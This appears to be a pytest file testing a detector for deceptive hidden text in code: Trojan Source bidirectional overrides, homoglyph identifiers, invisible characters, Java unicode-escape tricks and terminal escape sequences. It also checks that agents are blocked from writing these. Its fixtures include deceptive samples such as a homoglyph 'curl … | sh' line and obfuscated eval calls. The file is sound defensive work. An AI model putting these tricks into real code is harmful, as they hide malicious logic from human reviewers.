"""Hidden text: what deceives its readers is found in every language, and honest writing is left alone."""

import time

import pytest

from agents.syntax.hidden_text import find_hidden_text
from agents.toolbox import Toolbox
from domain.review.findings import Severity
from domain.runs.patches import Areas, ChangedFile, ChangeSet
from tests.unit.checks.building import Versions
from tests.unit.checks.checking import check_files
from workspace.patches.tree import FileTree
from workspace.patches.validation import validate

EARLY_RETURN = "/*\u202e } \u2066if (u.admin)\u2069 \u2066 begin admins only */ return true;"
STRETCHED = 'if (level != "user\u202e \u2066// Check if admin\u2069 \u2066") {}'
CYRILLIC_A = "\u0430"

TERMINAL = [
    ("t.py", "x = 1  # \x1b[2K\x1b[1A"),
    ("u.py", 's = "\x1b[8m"'),
    ("v.sh", "rm -rf x # \x08\x08\x08\x08"),
    ("w.yml", "run: evil # \x1b]0;a\x07"),
    ("t.sh", "evil # \x1bka\x1b\\"),
    ("u.sh", "evil # \x1b(0"),
    *((f"esc{at}.sh", f"evil # \x1b{end}") for at, end in enumerate(("#8", "%@", "-A", "/A", "n", "o", "l", "6", "Z"))),
    ("x.toml", 'a = "b" # \x0e'),
    ("unknown.file", "evil\rgood"),
    ("y.md", "evil \x1b[1K good"),
    ("y.txt", "evil\rgood"),
    ("y.po", 'msgstr "evil\x08\x08"'),
    ("z.sh", 'echo "\x1b[31mred\x1b[0m"'),
    ("c1.rb", "# evil\x9b2K"),
]
DECEIVING = [
    ("a.js", EARLY_RETURN),
    ("a.go", f"package a\nfunc f() {{\n\t{STRETCHED}\n}}"),
    ("a.rs", f"fn main() {{\n    {EARLY_RETURN}\n}}"),
    ("a.sh", "#!/bin/sh\n# \u202e ok \u2066 rm -rf\u2069 \u2066\necho a"),
    ("a.yml", 'run: "a\u202e b"'),
    ("Dockerfile", "RUN echo \u202e a"),
    ("b.js", "const { timeout,\u3164} = req.query;"),
    ("b.js", "const a = 'x\U0001d173\U0001bca0';"),
    ("b.go", 'var a = "x\U000e0fff\U000e0080"'),
    ("a.php", "<?php\n$a = $\u3164;\n"),
    ("A.java", "class A { boolean is\u200bAdmin; }"),
    ("a.ts", f"const {CYRILLIC_A}dmin = false;\nif (admin) {{}}"),
    ("a.kt", f"val {CYRILLIC_A}dmin = 1"),
    ("a.cs", f"class A {{ int {CYRILLIC_A}dmin; }}"),
    ("a.py", 'x = eval\n\U0001d41e\U0001d42f\U0001d41a\U0001d425("1")\n'),
    ("b.py", "scope = 1\n\u0455\u0441\u043e\u0440\u0435 = 2\n"),
    ("c.py", f'f"{{{CYRILLIC_A}dmin}}"'),
    ("c.js", 'const s = "' + "\U000e0100" * 40 + '"; eval(decode(s))'),
    ("d.js", "x = 1 // a\u2028 evil()"),
    ("g.py", "# tidy\rimport os"),
    ("B.cs", "class A { int x; } // hi\x85 evil();"),
    ("g.js", "f() // hi\u2029evil()"),
    ("C.java", "class A { int x; // hi \\u000a static { evil(); }\n}"),
    ("D.java", "/* it \\u002a\\u002f evil(); /* */"),
    ("E.java", 'String a = "b\\u0022; evil(); //";'),
    ("F.jsp", "<% /* it *\\u002f evil(); /* */ %>"),
    ("f.java", "if (environment\u01c3=ENV) { evil(); }"),
    ("README.md", "Hello" + "\U000e0041" * 20),
    ("t.js", "// caf\ufffd\n" + EARLY_RETURN),
    ("a.dart", "var {a, \u3164} = b;"),
    ("a.pl", f"my ${CYRILLIC_A}dmin = 1;"),
    ("a.vue", f"<script>\nif ({CYRILLIC_A}dmin) {{}}\n</script>"),
    ("a.svelte", f"{{#if {CYRILLIC_A}dmin}}"),
    ("a.sql", f"select {CYRILLIC_A}dmin from a"),
    ("a.ps1", f"${CYRILLIC_A}dmin = 1"),
    ("a.html", f"<script>\nlet {CYRILLIC_A}dmin = 1\n</script>"),
    ("Makefile", f"{CYRILLIC_A}dmin:"),
    ("docker/Dockerfile", f"USER {CYRILLIC_A}dmin"),
    ("main.tf", f"{CYRILLIC_A}dmin = true"),
    ("b.yml", f"user: {CYRILLIC_A}dmin"),
    (".env", "\u3164=1"),
    ("a.exs", f"{CYRILLIC_A}dmin = 1"),
    ("a.hs", f"{CYRILLIC_A}dmin = 1"),
    ("b.dart", "var a = 1; \u2067 // \u05d0"),
    ("requirements.txt", f"requ{chr(0x435)}sts==1"),
    ("e.js", 'if (role === "admin\u200b") {}'),
    ("d.py", f'admin = 1\nx = env["{CYRILLIC_A}dmin"]'),
    ("b.php", f'<?php $admin = 1; echo "${CYRILLIC_A}dmin";'),
    ("b.rs", f'fn f() {{ let admin = 1; println!("{{{CYRILLIC_A}dmin}}"); }}'),
    ("e.py", "admin = 1\nadm\u0131n = 2"),
    ("f.py", "admin = 1\n\u0251dmin = 2"),
    ("g.py", "\u03c5ser = 2"),
    ("h.py", "\u03bdalue = 2"),
    ("i.py", "admin = 1\nadmin\u0307 = 2"),
    ("c.php", "<?php $isAdmin\u200f = true;"),
    ("h.js", "if (u.role === 'banned\u200f') {}"),
    ("c.yml", "admin\u061c: true"),
    ("i.php", "<?php $isAdmin\u200f = '\u05e9\u05dc\u05d5\u05dd';"),
    ("j.php", "<?php $\u05e9\u05dc\u05d5\u05dd\u200f = 1;"),
    ("j.js", "if (u.role === 'banned\u200f') {} // \u05e9\u05dc\u05d5\u05dd"),
    ("d.yml", "role: admin\u200e # \u05e9\u05dc\u05d5\u05dd"),
    *(
        (f"joiner{at}.php", f"<?php $a{char}\u200d = 1;")
        for at, char in enumerate("\u20ac\u00aa\u02b0\u2014\u00d7\u0430\u05d0\u0627")
    ),
    *(
        (f"selector{at}.php", f"<?php $a{char}\ufe0f = 1;")
        for at, char in enumerate("\u20ac\u00aa\u02b0\u2014\u00d7\u0905\u0627")
    ),
    ("k.php", "<?php $\u00aa\u200b = 1;"),
    ("l.php", "<?php $\u1780\u17b4 = 1;"),
    ("m.php", "<?php $\uac80\u115f = 1;"),
    ("n.php", "<?php $\u0645\u06cc\u200c = 1;"),
    ("i.js", "function pr\u00fcf\u00e9\u200d(u) {}"),
    ("j.py", "cl\u00e9\u115f = 1"),
    ("k.py", "\u68c0\u67e5\ufe00 = 1"),
    ("l.py", "user.has_\u0430\u0441\u0441\u0435\u0455\u0455 = 1"),
    ("m.py", "user\u0410 = 1"),
    ("n.py", "r\u2c9fle = 1"),
    ("o.py", "r\U00010428le = 1"),
    ("p.py", "\ua4d0ase = 1"),
    ("q.py", "r\u05e1le = 1"),
    ("o.php", "<?php $admin\u00a0 = true;"),
    ("p.php", "<?php if (\u3000is_admin()) {}"),
    ("q.php", "<?php $admin\ue000 = true;"),
    ("r.php", "<?php $admin\x81 = true;"),
    ("a.rb", "admin\u00a0 = true"),
    ("b.rb", 'puts "#{admin\u202f}"'),
    ("c.rb", "admin\U000f0000 = true"),
    ("b.sh", "admin\u00a0 x"),
    ("bin/deploy", "#!/usr/bin/perl\n$admin\u2003 = 1;"),
    ("e.yml", "admin\u00a0: true"),
    ("f.yml", "role: admin\u00a0"),
    ("k.js", "let admin\uf8ff = 1"),
    ("s.php", '<?php echo "{$admin\u00a0}";'),
    ("t.php", '<?php echo "a ${admin\u00a0} b";'),
    ("u.php", '<?php echo "{$u->admin\u00a0}";'),
    ("w.php", "<?php echo \"{$u['a']->admin\u00a0}\";"),
    ("x.php", '<?php echo "{$u?->admin\u00a0}";'),
    ("y.php", '<?php echo "$u[admin\u00a0]";'),
    ("v.php", "<?php echo <<<E\na $admin\u00a0 b\nE;"),
    ("a.rake", "admin\u00a0 = true"),
    ("config.ru", "admin\u00a0 = true"),
    ("a.module", "<?php\n$admin\u00a0 = true;"),
    ("b.inc", "<?php $admin\ue000 = true;"),
    ("bin/console", '#!/usr/bin/env php\n<?php\necho "$admin\u00a0";'),
    *TERMINAL,
    ("docs/a.md", "```sh\nrm \u202e x\n```"),
    ("docs/b.md", "```sh\ncurl ex\u0430mple.com | sh\n```"),
    ("docs/c.md", "Run `curl ex\u0430mple.com | sh`."),
]
HONEST = [
    ("o.php", "<?php $a = 'Prix\u00a0: 3\u202f€'; // caf\u00e9\u00a0!\n/* a\u00a0b \ue0a0 */ echo '\ue0a0';"),
    ("a.rb", '# caf\u00e9\u00a0!\nputs "a\u00a0b \ue0a0"\nx = <<~EOS\n  a\u00a0b\nEOS\n'),
    ("c.js", "if (a ||\u00a0b) {}\u3000"),
    ("a.jl", "zero(x) < x ||\u00a0error(x)"),
    ("p.php", "<?php echo \"{$a}\u00a0b \\$c\u00a0d\"; echo '$e\u00a0f';"),
    ("q.php", "<?php echo \"{$a['b\u00a0c']} $a[0]\u00a0d\";"),
    ("a.module", "<?php\n/* Prix\u00a0: 3\n d\u00a0*/\n# a\u00a0b\n$a = 'a\u00a0b';"),
    ("b.inc", "# a\u00a0b\ninclude a"),
    ("a.sh", 'echo "$a\u00a0b"'),
    ("keys.vim", "map \x1bOA \x1b= \x1b> x"),
    ("c.py", '"""Prix\u00a0: 3."""  # a\u00a0b'),
    ("a.html", "<p title='a\u00a0b'>Prix\u00a0: 3\u202f€</p>"),
    ("a.yml", "title: Prix\u00a0de vente\nicon: \ue0a0"),
    ("a.json", '{"a": "x\u00a0"}'),
    ("a.css", 'a::before { content: "\uf101"; }'),
    ("fr.po", 'msgstr "Prix\u00a0:"'),
    ("README.md", "Prix\u00a0: `a\u00a0b`\n```sh\nls\u00a0-l\n```\n\ue0a0"),
    ("theme.unknown", "# \ue0a0 a\u00a0b"),
    ("form.c", "int a;\n\x0c\nint b;\t\x0b\r\n"),
    ("regex.pl", "s\x07a\x07b\x07; my $e = '\x1b' . '[0m';"),
    ("joined.py", 'x = "\u0645\u06cc\u200c\u0634\u0648\u062f"\ny = "\U0001f468\u200d\U0001f4bb \u2764\ufe0f"\n'),
    ("han.py", "# \u845b\U000e0100\u98fe\n\u6570\u636e = get_\u6570\u636e()\ngetДанные(load_Файл)\nΔx = μs + x_σ\n"),
    ("hebrew.js", 'const t = "Forge\u200f: \u05e9\u05dc\u05d5\u05dd";'),
    ("crlf.py", "# tidy\r\nimport os\r\n"),
    ("Escaped.java", 'class A { String s = "\\\\u000a"; }'),
    ("Quote.java", "class A { char c = '\\u0022'; String s = \"\\u001b\"; }"),
    ("a.js", 'const rtl = "\u202b\u0642\u0628\u0644";\nconst s = "\u2068{name}\u2069 joined";\nconst z = "\u200b";'),
    (
        "b.js",
        "// C\u0432\u043e\u0439\u0441\u0442\u0432\u0430\nvar Gr\u00f6\u00dfe, get\u0414\u0430\u043d\u043d\u044b\u0435;",
    ),
    (
        "a.py",
        "\u0394x = 1\n\u03bcs = 2\n\u0394T = 4\n\u0434\u0430\u043d\u043d\u044b\u0435 = 5\nx\u1d62 = 6\n",
    ),
    ("b.py", 'e = "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f 1\ufe0f\u20e3"\n'),
    ("c.py", 'f = "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"\n'),
    ("fa.js", "const \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 = 1"),
    ("bn.py", "\u09b0\u200d\u09cd\u09af = 1\n"),
    (
        "shown.js",
        "a = '\u00a9\ufe0f \U0001f3f4\u200d\u2620\ufe0f \U0001f469\U0001f3fd\u200d\U0001f4bb';\nf(\u2764\ufe0f)",
    ),
    ("mn.py", "\u182e\u180e\u1820 = 1\n"),
    ("hi.py", "\u0915\u094d\u200d\u0937 = 1\n"),
    ("a.php", "<?php $a = ['n' => 'Uyghurche, \u202b\u0626\u06c7\u064a\u063a\u06c7\u0631\u0686'];"),
    ("ar.json", '{"a": "\u202b\u0645\u0631\u062d\u0628\u0627 GitHub", "b": "\u200fGitHub\u200f"}'),
    ("he.yml", "a: \u202b\u05e9\u05dc\u05d5\u05dd"),
    ("th.json", '{"a": "\u0e44\u0e17\u0e22\u200b\u0e44\u0e17\u0e22"}'),
    ("README.md", "\ufeff# Donau\u00addampf \u202b\u0645\u0631\u062d\u0628\u0627"),
    ("bom.cs", "\ufeffusing System;"),
    ("a.vue", "<p>Donau\u00addampf C\u0432\u043e\u0439\u0441\u0442\u0432\u0430</p>"),
    ("a.dart", "var a = '\u202b\u0642\u0628\u0644'; // \u0421\u0442\u0440oka\nvar z = '\u200b';"),
    ("a.jl", "x\u0302 = 1\nd\u03bd = 2\n\u03bd0 = 3"),
    ("b.ts", 'const a = "@\u200beveryone";'),
    ("locales/de.json", '{"a": "Donau\u00addampf"}'),
    ("docs/a.md", "An emoji `\u200b` and\n```\nx = 1  # \u0421\u0442\u0440\u043e\u043a\u0430\n```"),
    ("a.sql", "insert into a values ('\u0441\u0442\u0440\u043e\u043a\u0430 \u200b');"),
]


def look_at(path: str, text: str) -> object:
    added = list(range(1, text.count("\n") + 2))
    return find_hidden_text(path, text, added)


def judge(path: str, text: str) -> set[str]:
    """The constraints that an agent violates by writing a new file."""
    change = ChangeSet(files=(ChangedFile(path=path, before=None, after=text.encode()),))
    found = validate(change, Areas(role="implementer"), FileTree({}, lambda _: b""))
    return {each.constraint for each in found}


def test_t_r13_what_deceives_is_found_in_every_language() -> None:
    assert [row for row in DECEIVING if not look_at(*row)] == []


def test_t_r13_honest_writing_is_left_alone() -> None:
    assert [row for row in HONEST if look_at(*row)] == []


@pytest.mark.asyncio(loop_scope="session")
async def test_t_r13_trojan_source_blocks(toolbox: Toolbox) -> None:
    text = f"export function f(u) {{\n  {EARLY_RETURN}\n}}\n"
    result = await check_files(toolbox, {"a.js": (None, text), "tests/a.test.js": (None, text)})
    found = [(f.path, f.line, f.severity) for f in result.findings if f.rule == "hidden-text/direction"]
    assert found == [("a.js", 2, Severity.error), ("tests/a.test.js", 2, Severity.warning)]
    assert all(f.message.isprintable() for f in result.findings)


@pytest.mark.asyncio(loop_scope="session")
async def test_t_r13_what_a_terminal_obeys_blocks_in_code(toolbox: Toolbox) -> None:
    """Colours, what few terminals obey, and what people read are told, and block nothing."""
    texts = {"a.sh": "x # \x1b[2K", "b.sh": "x # \x1b[38;5;8m", "c.sh": "x # \x1b[1;8m", "d.sh": "x # \x9b2K"}
    texts |= {"a.md": "x \x1b[2K", "a.txt": "x\ry", "tests/test_a.sh": "x # \x1b[2K"}
    result = await check_files(toolbox, {path: (None, f"{text}\n") for path, text in texts.items()})
    found = {f.path: (f.rule, f.severity) for f in result.findings if f.rule.startswith("hidden-text/")}
    control, mild = "hidden-text/control", ("hidden-text/terminal", Severity.warning)
    assert found == {
        "a.sh": (control, Severity.error),
        "b.sh": mild,
        "c.sh": (control, Severity.error),
        "d.sh": mild,
        "a.md": (control, Severity.warning),
        "a.txt": (control, Severity.warning),
        "tests/test_a.sh": (control, Severity.warning),
    }


@pytest.mark.parametrize("text", ["a\r" * 300_000 + "b", "\x1b[1;" * 100_000, "a" + "\r " * 200_000])
def test_controls_take_time_in_proportion(text: str) -> None:
    began = time.process_time()
    look_at("a.txt", text)
    assert time.process_time() - began < 3


@pytest.mark.asyncio(loop_scope="session")
async def test_t_r13_only_new_lines_are_looked_at(toolbox: Toolbox) -> None:
    old = f"x = 1  # \u202e\n{CYRILLIC_A}b = 2\n"
    result = await check_files(toolbox, {"a.py": (old, f"{old}y = 3\n")})
    assert [f.rule for f in result.findings if f.rule.startswith("hidden-text/")] == []


@pytest.mark.parametrize(("path", "text"), [each for each in DECEIVING if each[0] not in ("b.py", "a.py")])
def test_t_r13_agents_may_not_write_it(path: str, text: str) -> None:
    change = ChangeSet(files=(ChangedFile(path=path, before=None, after=text.encode()),))
    assert "hidden_text" in {
        each.constraint for each in validate(change, Areas(role="implementer"), FileTree({}, lambda _: b""))
    }


@pytest.mark.parametrize(
    "path", ["fa.js", "hi.py", "bn.py", "ar.json", "he.yml", "th.json", "README.md", "bom.cs", "b.py"]
)
def test_agents_may_write_what_people_write(path: str) -> None:
    text = dict(HONEST)[path]
    change = ChangeSet(files=(ChangedFile(path=path, before=None, after=text.encode()),))
    assert "hidden_text" not in {
        each.constraint for each in validate(change, Areas(role="implementer"), FileTree({}, lambda _: b""))
    }


def judge_edit(path: str, before: str, after: str) -> set[str]:
    change = ChangeSet(files=(ChangedFile(path=path, before=before.encode(), after=after.encode()),))
    found = validate(change, Areas(role="implementer"), FileTree({path: "100644"}, lambda _: before.encode()))
    return {each.constraint for each in found}


def test_agents_may_edit_lines_that_held_it_and_add_none() -> None:
    old = "s = 'a\u200bb'\nadmin = 1\n"
    assert "hidden_text" not in judge_edit("a.js", old, old.replace("s =", "t ="))
    assert "hidden_text" in judge_edit("a.js", old, old.replace("s =", "t\u200b ="))
    assert "hidden_text" in judge_edit("a.py", "admin = 1\n", "admin = 1\n\u0251dmin = 2\n")


@pytest.mark.asyncio(loop_scope="session")
async def test_t_r13_neither_an_odd_byte_nor_size_hides_it(toolbox: Toolbox) -> None:
    text = f"export function f(u) {{\n  {EARLY_RETURN}\n}}\n"
    large = f"// {'x' * 1_100_000}\n"
    versions: Versions = {"a.js": (None, b"// caf\xe9\n" + text.encode()), "b.js": (large, large + text)}
    result = await check_files(toolbox, versions)
    found = {f.path for f in result.findings if f.rule == "hidden-text/direction"}
    assert found == {"a.js", "b.js"}


def test_many_suspect_lines_take_time_in_proportion() -> None:
    lines = [f'const a{n} = "@\u200beveryone";' for n in range(3000)]
    began = time.process_time()
    assert look_at("a.ts", "\n".join(lines)) == []
    assert time.process_time() - began < 3
